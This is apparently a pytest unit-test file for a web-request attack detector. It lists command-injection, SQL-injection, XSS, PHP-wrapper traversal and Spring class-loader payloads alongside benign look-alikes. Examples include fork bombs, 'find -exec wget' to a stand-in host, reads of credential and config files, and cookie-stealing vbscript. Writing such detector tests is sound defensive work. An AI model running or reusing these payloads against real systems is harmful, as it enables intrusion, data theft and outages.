"""Unit: the shapes fix32 adds for the CRS regression split (fresh30) and fresh27's cut SQL fragments.

Whole-value command lines only a shell writes (a break-out opening the value, a command name spelled with quotes, a
non-English wrapper running a probe, a reading tool or a shell given a system path, a self-forking function,
``find -exec`` of a network tool, WMI's process creation, brace lists with ANSI-C quoting or a glob), cut SQL
fragments (``sqli_cuts``), ``vbscript:`` attributes and entity-split schemes, PHP's ``compress.*://`` wrappers and
Spring's class-loader binding in a value. Values are our own; none comes from a corpus. Each shape has benign
look-alikes that must pass."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from bastion.detection import Context, Engine
from bastion.detection.cmd_lone import lone_command
from bastion.detection.sqli_cuts import cut_fragment

QUERY = Context("query", "q")
BODY = Context("body", "comment")


def _attack(engine: Engine, value: str, ctx: Context = QUERY) -> str | None:
    found = engine.inspect(value, ctx)
    return found.rule.attack if found is not None else None


@pytest.mark.parametrize("value", [
    ";lsmod", "| dmesg", "&& printenv", ";top -b", "&#59; ;uptime", ";set", "||lsof -i", ";yum info",
    "& apt-get update", ";at now + 1 minute", "; at 23:59 'rm x'",
])
def test_a_separator_opening_the_value_then_a_system_tool_is_cmdi(engine: Engine, value: str) -> None:
    assert _attack(engine, value) == "cmdi"


@pytest.mark.parametrize("value", [
    "'w'get example.org", "\"p\"ing -c 1 10.0.0.1", "c''url x", "'n'c -l 4444", "wh''oami", "'s'leep 3", "no\"\"hup id",
    "'i'p route",
])
def test_a_command_name_spelled_with_a_shells_quotes_is_cmdi(engine: Engine, value: str) -> None:
    assert _attack(engine, value) == "cmdi"


@pytest.mark.parametrize("value", [
    "nohup id", "strace -f ps", "setsid uptime", "stdbuf -oL hostname", "chroot /mnt w",
    "cat /etc/nginx/nginx.conf", "ls -la /root/.aws", "head -n 5 /proc/self/status", "sh /dev/shm/x.sh",
    "base64 /var/www/app/config.php", "/bin/bash /tmp/run", "tail -c 100 /boot/grub/grub.cfg", "python3 /tmp/a.py",
])
def test_a_wrapper_running_a_probe_or_a_reader_given_a_system_path_is_cmdi(engine: Engine, value: str) -> None:
    """A wrapper that is no English word (``nohup``, ``strace`` …) running a probe tool, or a reading tool or a shell
    whose first argument after options is a system path."""
    assert _attack(engine, value) == "cmdi"


@pytest.mark.parametrize("value", [
    "f() { f | f & }; f", "; boom(){ boom|boom& };boom", "function x() { x | x & }",
    "find / -name '*.conf' -exec wget -q http://x.test/ \\;", "find /srv -execdir nc x.test 9 \\;",
    "Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList calc",
    "([wmiclass]'Win32_Process').Create('notepad')", "{,$'uname',}", '{$"id",}', "{/???/?at,/etc/hostname}",
])
def test_self_forking_functions_find_exec_wmi_and_brace_lists_are_cmdi(engine: Engine, value: str) -> None:
    assert _attack(engine, value) == "cmdi"


@pytest.mark.parametrize("value", [
    "time who", "dnf list", "ls -al", "cat /path/file.gz", "tail -f /var/log/syslog", "ls -la /var/log/nginx/",
    "ls -la /var/www/html", "dir /tmp/build", "42 as \"answer\" from the book",
    "chmod 755 deploy.sh", "'curl' is the tool we use", "\"Curl\" up with a book", "It's 'nice' weather", "'n'sync",
    "rock 'n' roll", "O''Brien", "Tom & Jerry", "; see above", "&top=10", "A; B; set", ";-)", "&amp;",
    "nohup python app.py > app.log &", "the time who knows", "cat /etc is a folder name", "see /tmp/notes for the list",
    "function f() { return a | b; }", "{a,b}", '{"id":1,"ls":"x"}',
    "find the wmi docs: Win32_Process class, Create method",
    "Run find . -name x to list them", "strace output attached", "nohup: ignoring input",
])
def test_command_look_alikes_pass(engine: Engine, value: str) -> None:
    assert _attack(engine, value, BODY) is None and _attack(engine, value) is None


def test_lone_command_names_its_shapes_directly() -> None:
    tools = frozenset({"curl", "time"})
    assert lone_command("'c'url x", "curl x", tools, frozenset()) == (0, 8)
    assert lone_command("'curl' x", "curl x", tools, frozenset()) is None
    assert lone_command(";dmesg", ";dmesg", tools, frozenset()) == (0, 6)


@pytest.mark.parametrize("value", [
    "jane.doe@example.org';", 'bob"/* x */;', "42`;", "'drop a", '" SELECT /', "` union all", "'insert(",
    "x = ( select", "1 in (SELECT", ")) when 'a' then", "having sum(amount) >= 10", "') HAVING MAX(id) < 3",
    '7 AS "col" FROM users', "null as `c` from t", "SELECT 0x41424344", "(select char(65)", "select concat(",
    "CHAR(0x414243444546)", "x=unhex(0x2f6574632f)", "1 UN/**/ION SEL/**/ECT 2", "de/*x*/lete", ", field(id, 3, 1)",
    ",elt(1,sleep(1))", "\\'7 or 7", "\"3 || 3",
])
def test_cut_sql_fragments_are_sqli(engine: Engine, value: str) -> None:
    assert _attack(engine, value) == "sqli"
    assert cut_fragment(value) is not None


@pytest.mark.parametrize("value", [
    "Rock 'n' Roll;", "it's;", "'Union Station' is closed", '"Select a size" please', "'alter ego'",
    "\"Union Pacific\"", "Please select", ") when done, then call", "Having fun with count(x) > 5 in class",
    "When I paste `SELECT region, SUM(total) FROM orders GROUP BY region HAVING SUM(total) > 1000` it fails",
    'known as "Bob" from Paris', "Select 0x prefix for hex", "concat(a, b)", "/* one */ two", "un /* x */ ion",
    ", and more", "'1 or 2 people'", "\"1 or 10", "color: 0x1A2B3C",
])
def test_sql_fragment_look_alikes_pass(engine: Engine, value: str) -> None:
    assert cut_fragment(value) is None
    assert _attack(engine, value, BODY) is None


@pytest.mark.parametrize(("value", "attack"), [
    ('<a href="vbscript:Execute 1">x</a>', "xss"), ("<img src='vbscript:msgbox document.cookie'>", "xss"),
    ("j&tab;a&newline;vascript&colon;alert(1)", "xss"), ("v&tab;bscript&#58;x", "xss"),
    ("compress.zlib://../../etc/hosts", "traversal"), ("compress.bzip2://backup.bz2", "traversal"),
    ("class.module.classLoader.resources.context.parent.appBase=/tmp", "proto"),
    ("a=1&class.classLoader.URLs[0]=http://x.test/", "proto"),
])
def test_vbscript_attributes_split_schemes_compress_wrappers_and_class_loader_bindings_are_refused(
        engine: Engine, value: str, attack: str) -> None:
    assert _attack(engine, value) == attack


@pytest.mark.parametrize("value", [
    "VBScript: a language Microsoft retired", "see vbscript:MsgBox in old docs", "href=vbscript.html", "a&tab;b",
    "use &colon; for a colon", "the class.module of this bean", "Each class loader (classLoader.getResource) reads it",
    "class.name=Order", "compress.zlib is PHP's gzip wrapper",
])
def test_script_scheme_wrapper_and_class_loader_look_alikes_pass(engine: Engine, value: str) -> None:
    assert _attack(engine, value, BODY) is None


@pytest.mark.parametrize("unit", [
    ";", "'", "a'", "x(){ x|x& ", "find -exec ", "Win32_Process ", "0x0x", "concat(0x", "a/**/b", ' 1 as "a" ',
    "class.classLoader.", "=vbscript:", "v&tab;", "{,", "&#59;", "cat /etc/x ", ") when ", ", field(",
])
def test_the_new_scans_are_linear_on_128_kib(inspect_seconds: Callable[[str, Context], float], unit: str) -> None:
    """Doubling the value from 64 to 128 KiB at most doubles the time (with slack for a busy machine)."""
    half = unit * (64 * 1024 // len(unit))  # whole units: a cut unit ends the value differently (session 18:
    # '&#59;' cut at 128 KiB ended in '#', at 64 KiB in '&', and only the '#' ending runs cmd_breakouts' scan)
    whole = half + half
    assert inspect_seconds(whole, BODY) < 3 * inspect_seconds(half, BODY) + 0.05
    assert inspect_seconds(whole, BODY) < 5.0
